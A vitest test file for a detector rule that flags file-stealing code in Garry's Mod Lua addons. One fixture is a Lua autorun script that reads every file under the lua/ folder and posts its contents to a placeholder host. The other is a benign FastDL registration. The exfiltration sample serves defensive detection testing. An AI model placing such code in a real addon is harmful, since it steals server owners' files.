// Valid and invalid cases of the `file_stealer` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './file_stealer.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('file_stealer', () => {
  it('files read and uploaded', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local function walk(d)\n local fs, ds = file.Find(d .. "*", "GAME")\n for _, f in ipairs(fs) do http.Post("https://a.invalid/up", {name = f, data = file.Read(d .. f, "GAME")}) end\nend\nwalk("lua/")',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('FastDL registration', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'local fs = file.Find("materials/x/*", "GAME")\nfor _, f in ipairs(fs) do resource.AddFile("materials/x/" .. f) end',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
